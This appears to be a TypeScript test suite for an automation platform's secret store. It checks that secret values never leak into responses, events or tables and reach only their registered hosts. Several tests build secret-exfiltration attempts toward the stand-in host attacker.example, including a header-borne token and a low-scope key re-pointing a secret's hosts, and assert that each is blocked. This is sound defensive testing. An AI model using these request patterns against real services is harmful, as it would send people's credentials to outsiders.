import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type Json, startService, type TestWorkspace } from '../../../../../test/harness.ts';
import { keyWith, limitedKey } from '../../../../../test/keys.ts';
import { sql } from '../../../../platform/database/sql.ts';
import { readSecrets } from './read-secrets.ts';

const service = await startService();
const VALUE = 'correct-horse-battery-staple';

function naming(name: string, more: object = {}) {
  const headers = { Authorization: `Bearer {{ secrets.${name} }}` };
  const config = { method: 'GET', url: 'https://api.example.com/', headers };
  return {
    name: 'Ask',
    trigger: { event: 'job.created' },
    steps: [{ id: 'ask', type: 'http_request', config }],
    ...more,
  };
}

const request = (config: object) => ({ id: 'ask', type: 'http_request', config: { method: 'GET', ...config } });

function elsewhere(name: string, url = 'https://attacker.example/') {
  return { ...naming(name), steps: [request({ url, headers: { 'X-Token': `{{ secrets.${name} }}` } })] };
}

const put = ({ api }: TestWorkspace, name: string, value = VALUE) =>
  api('PUT', `/automation-secrets/${name}`, { value, hosts: ['api.example.com'] });

describe('secrets', () => {
  it('are set, replaced and listed by name; the value is in no response, event or table', async () => {
    const workspace = await service.workspace();
    const made = await put(workspace, 'CRM_TOKEN');
    assert.equal(made.status, 201);
    assert.deepEqual(Object.keys(made.body.data), ['name', 'hosts', 'createdAt', 'updatedAt']);
    assert.equal((await put(workspace, 'CRM_TOKEN')).status, 200);
    await put(workspace, 'ANOTHER');
    const { data } = (await workspace.api('GET', '/automation-secrets')).body;
    assert.deepEqual(
      data.map(({ name }: Json) => name),
      ['ANOTHER', 'CRM_TOKEN'],
    );
    const { id } = (await workspace.api('POST', '/automations', naming('CRM_TOKEN'))).body.data;
    const simulated = await workspace.api('POST', `/automations/${id}/simulate`, { event: 'job.created', data: {} });
    assert.equal(simulated.body.data.steps[0].input.headers.Authorization, 'Bearer [secret CRM_TOKEN]');
    const tables = await service.db.write.query<{ name: string }>(
      sql`select relname as name from pg_class where relkind = 'r' and relnamespace = 'public'::regnamespace`,
    );
    for (const { name } of tables) {
      const rows = await service.db.write.query<{ text: string }>({
        ...sql``,
        text: `select t::text as text from ${name} t where strpos(t::text, '${VALUE}') > 0`,
        values: [],
      } as Json);
      assert.deepEqual(rows, [], name);
    }
  });

  it('are decrypted only for requests of their own workspace', async () => {
    const [one, other] = [await service.workspace(), await service.workspace()];
    await put(one, 'TOKEN');
    assert.deepEqual((await readSecrets(service.db.read, service.services, one.id)).values, { TOKEN: VALUE });
    assert.deepEqual((await readSecrets(service.db.read, service.services, other.id)).values, {});
    await service.db.write.query(sql`
      insert into automation_secrets (workspace_id, name, value_sealed)
      select ${other.id}, name, value_sealed from automation_secrets where workspace_id = ${one.id}`);
    await assert.rejects(
      readSecrets(service.db.read, service.services, other.id),
      'a row that was moved opens nowhere',
    );
  });

  it('cannot be deleted while a published automation uses them, paused or not', async () => {
    const workspace = await service.workspace();
    const { api } = workspace;
    await put(workspace, 'TOKEN');
    const { id } = (await api('POST', '/automations', naming('TOKEN'))).body.data;
    await api('POST', `/automations/${id}/publish`);
    const remove = () => api('DELETE', '/automation-secrets/TOKEN');
    const rejected = await remove();
    assert.equal(rejected.status, 409);
    assert.deepEqual(rejected.body.error?.details, { automations: [{ id, name: 'Ask' }] });
    await api('POST', `/automations/${id}/pause`);
    assert.equal((await remove()).status, 409);
    await put(workspace, 'TOKEN_2');
    await api('PATCH', `/automations/${id}`, naming('TOKEN_2'));
    assert.equal((await remove()).status, 409, 'the published version still names it');
    await api('POST', `/automations/${id}/publish`);
    assert.equal((await remove()).status, 204, 'a longer name that begins alike is another');
    assert.equal((await remove()).status, 404);
  });

  it('appear in no message about a rendered template, not even in part', async () => {
    const workspace = await service.workspace();
    const value = `"${'correct-horse '.repeat(20)}`;
    await put(workspace, 'LONG', value);
    const body = naming('LONG');
    Object.assign(body.steps[0]!.config, { url: '{{ secrets.LONG }}' });
    const { id } = (await workspace.api('POST', '/automations', body)).body.data;
    const simulated = await workspace.api('POST', `/automations/${id}/simulate`, { event: 'job.created', data: {} });
    assert.match(simulated.body.data.steps[0].error, /is not an http or https address/);
    assert.doesNotMatch(simulated.text, /correct|horse/);
  });

  it('a definition can use only existing ones', async () => {
    const workspace = await service.workspace();
    const rejected = await workspace.api('POST', '/automations', naming('NOBODY'));
    assert.equal(rejected.body.error?.details.field, 'steps.0.config.headers.Authorization');
    await put(workspace, 'NOBODY');
    assert.equal((await workspace.api('POST', '/automations', naming('NOBODY'))).status, 201);
  });

  it('concurrent publishing and deleting never leave a published automation without its secret', async () => {
    const workspace = await service.workspace();
    const { api } = workspace;
    for (let round = 0; round < 10; round += 1) {
      const name = `RIVAL_${round}`;
      await put(workspace, name);
      const { id } = (await api('POST', '/automations', naming(name))).body.data;
      const [published, deleted] = await Promise.all([
        api('POST', `/automations/${id}/publish`),
        api('DELETE', `/automation-secrets/${name}`),
      ]);
      assert.ok(
        (published.status === 200) !== (deleted.status === 204),
        `publish ${published.status}, delete ${deleted.status}`,
      );
    }
  });

  it('can be changed only by callers who may publish every automation that uses them', async () => {
    const workspace = await service.workspace();
    await put(workspace, 'TOKEN');
    const { id } = (await workspace.api('POST', '/automations', naming('TOKEN'))).body.data;
    await workspace.api('POST', `/automations/${id}/publish`);
    const attacker = await keyWith(workspace, 'automations:write');
    const attack = { value: 'mine', hosts: ['attacker.example'] };
    const rejected = await attacker.api('PUT', '/automation-secrets/TOKEN', attack);
    assert.equal(rejected.status, 403);
    assert.deepEqual(rejected.body.error?.details, { missingScopes: ['candidates:read', 'webhooks:write'] });
    await put(workspace, 'TOKEN_2');
    await workspace.api('PATCH', `/automations/${id}`, naming('TOKEN_2'));
    await workspace.api('POST', `/automations/${id}/publish`);
    assert.equal(
      (await attacker.api('PUT', '/automation-secrets/TOKEN', attack)).status,
      403,
      'runs of the earlier version may still be open',
    );
    assert.equal((await attacker.api('PUT', '/automation-secrets/OTHER', attack)).status, 201);
    const scopes = ['automations:write', 'candidates:read', 'webhooks:write'];
    const limited = await limitedKey(workspace, { personalData: false }, scopes);
    assert.equal((await limited.api('PUT', '/automation-secrets/TOKEN', attack)).status, 403);
    assert.equal((await put(workspace, 'TOKEN', 'rotated')).status, 200);
  });

  it('are sent only to their hosts, whether these are fixed or rendered', async () => {
    const workspace = await service.workspace();
    const { api } = workspace;
    await put(workspace, 'TOKEN');
    const rejected = await api('POST', '/automations', elsewhere('TOKEN'));
    assert.equal(rejected.status, 422);
    assert.equal(rejected.body.error?.details.field, 'steps.0.config.url');
    const rendered = elsewhere('TOKEN', 'https://{{ job.slug }}.example/');
    const simulate = async (body: object) => {
      const { id } = (await api('POST', '/automations', body)).body.data;
      const { steps } = (await api('POST', `/automations/${id}/simulate`, { event: 'job.created', data: { job: {} } }))
        .body.data;
      return steps[0];
    };
    assert.equal((await simulate(rendered)).outcome, 'failed');
    await api('PUT', '/automation-secrets/CHANNEL', { value: 'https://Chat.Example/room/4711' });
    const { data } = (await api('GET', '/automation-secrets')).body;
    assert.deepEqual(
      data.map(({ name, hosts }: Json) => [name, hosts]),
      [
        ['CHANNEL', ['chat.example']],
        ['TOKEN', ['api.example.com']],
      ],
    );
    const toChannel = { ...naming('CHANNEL'), steps: [request({ url: '{{ secrets.CHANNEL }}' })] };
    assert.equal((await simulate(toChannel)).outcome, 'not_executed');
    await api('PUT', '/automation-secrets/CHANNEL', { value: 'https://attacker.example/' });
    const step = await simulate(toChannel);
    assert.equal(step.outcome, 'failed', 'a new value does not move the host');
    assert.doesNotMatch(step.error, /attacker/);
    assert.equal((await api('PUT', '/automation-secrets/TOKEN', { value: 'x', hosts: ['a b'] })).status, 422);
  });

  it('names are upper case, values not empty, and changes are in the event log', async () => {
    const workspace = await service.workspace();
    for (const name of ['lower', '1A', 'A-B', '__proto__', 'A'.repeat(65)]) {
      assert.equal((await put(workspace, name)).status, 422, name);
    }
    assert.equal((await put(workspace, 'EMPTY', '')).status, 422);
    await put(workspace, 'TOKEN');
    await workspace.api('DELETE', '/automation-secrets/TOKEN');
    const { data } = (await workspace.api('GET', '/activity-events?limit=2')).body;
    assert.deepEqual(
      data.map(({ type }: Json) => type),
      ['automation_secret.deleted', 'automation_secret.set'],
    );
    assert.equal(data[1].data.automationSecret.name, 'TOKEN');
  });
});
